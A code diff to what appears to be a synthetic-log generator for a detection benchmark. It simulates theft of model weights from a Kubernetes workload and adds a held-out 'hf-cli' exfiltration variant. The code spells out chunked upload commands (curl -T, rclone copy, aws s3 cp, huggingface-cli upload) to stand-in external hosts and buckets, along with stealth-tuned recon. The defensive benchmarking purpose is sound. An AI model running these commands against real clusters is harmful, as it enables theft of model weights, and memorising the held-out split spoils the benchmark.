@@ -33,7 +33,9 @@ export interface WeightExfilParams {
   /** Other namespaces probed during recon (most answers are 403). */
   reconNamespaces: number;
   format: 'safetensors' | 'gguf';
-  channel: 'curl' | 'rclone' | 'aws-s3';
+  channel: 'curl' | 'rclone' | 'aws-s3' | 'hf-cli';
+  /** Technique variant (the benchmark holds `hf-cli` out of training). */
+  variant: WeightExfilVariant;
   exposure: 'NodePort' | 'LoadBalancer' | 'port-forward';
   /** Transfers done by exec; `appUploads` more go through the platform's artifact client. */
   chunks: number;
@@ -51,9 +53,16 @@ export interface WeightExfilParams {
 const HOSTS = ['upload.filedrop-cdn.net', 's3.eu-central-2.wasabisys.com', 'objects.nl-ams-1.datapool.cloud', 'dl.mirrorsync.io'];
 const BUCKETS = ['ml-shared-research-7731', 'backup-archive-eu-2291', 'model-mirror-4412', 'tmp-share-0835'];
 
-export function drawWeightExfilParams(rng: Prng): WeightExfilParams {
+export const WEIGHT_EXFIL_VARIANTS = {
+  inDistribution: ['curl', 'rclone', 'aws-s3'],
+  heldOut: ['hf-cli'],
+} as const;
+export type WeightExfilVariant = (typeof WEIGHT_EXFIL_VARIANTS.inDistribution)[number] | (typeof WEIGHT_EXFIL_VARIANTS.heldOut)[number];
+
+/** Draws parameters; `variant` fixes the exfiltration tool (default: drawn among the in-distribution ones). */
+export function drawWeightExfilParams(rng: Prng, variant?: WeightExfilVariant): WeightExfilParams {
   const stealth = rng.float();
-  return {
+  const p: WeightExfilParams = {
     startFraction: rng.range(0.12, 0.3),
     stealth,
     reconCalls: Math.round(rng.range(45, 70) - stealth * 30),
@@ -69,7 +78,11 @@ export function drawWeightExfilParams(rng: Prng): WeightExfilParams {
     exfilHost: rng.pick(HOSTS),
     exfilBucket: rng.pick(BUCKETS),
     appUser: rng.pick(['svc-ckpt-sync@corp.example', 'svc-artifact-mirror@corp.example']),
+    variant: 'curl',
   };
+  if (variant) p.channel = variant;
+  p.variant = p.channel;
+  return p;
 }
 
 interface Run {
@@ -148,7 +161,7 @@ export function generateWeightExfil(ctx: ScenarioContext, victim: Workload, p: W
   const worker = victim.pods[1] ?? master;
   const reason = rbacReason({ kind: 'RoleBinding', name: `${victim.serviceAccount}-edit`, namespace: victim.namespace }, { kind: 'ClusterRole', name: 'edit' }, `ServiceAccount "${victim.serviceAccount}/${victim.namespace}"`);
   const run: Run = { ctx, rng, p, victim, actor: podActor(master, p.stealth > 0.5 ? PYTHON_CLIENT_UA : KUBECTL_LINUX_UA, reason), key: victim.key };
-  ctx.timeline.markFamily(run.key, 'weight-exfil');
+  ctx.timeline.markFamily(run.key, 'weight-exfil', p.variant);
 
   const span = ctx.endUs - ctx.startUs;
   const start = ctx.startUs + p.startFraction * span;
@@ -243,7 +256,9 @@ export function generateWeightExfil(ctx: ScenarioContext, victim: Workload, p: W
         ? ['curl', '-sS', '--retry', '3', '-T', part, `https://${p.exfilHost}/u/${p.exfilBucket}/part-${String(i).padStart(2, '0')}`]
         : p.channel === 'rclone'
           ? ['rclone', 'copy', part, `remote:${p.exfilBucket}/${victim.name}/`, '--s3-no-check-bucket']
-          : ['aws', 's3', 'cp', part, `s3://${p.exfilBucket}/${victim.name}/part-${String(i).padStart(2, '0')}`, '--endpoint-url', `https://${p.exfilHost}`];
+          : p.channel === 'hf-cli'
+            ? ['huggingface-cli', 'upload', `${p.exfilBucket}/${victim.name}`, part, `part-${String(i).padStart(2, '0')}`, '--repo-type', 'dataset', '--private']
+            : ['aws', 's3', 'cp', part, `s3://${p.exfilBucket}/${victim.name}/part-${String(i).padStart(2, '0')}`, '--endpoint-url', `https://${p.exfilHost}`];
     const at = et[k++]!;
     const seconds = transfers[i]!;
     execIn(run, at, helper, cmd, seconds, 'exfiltration', partBytes);
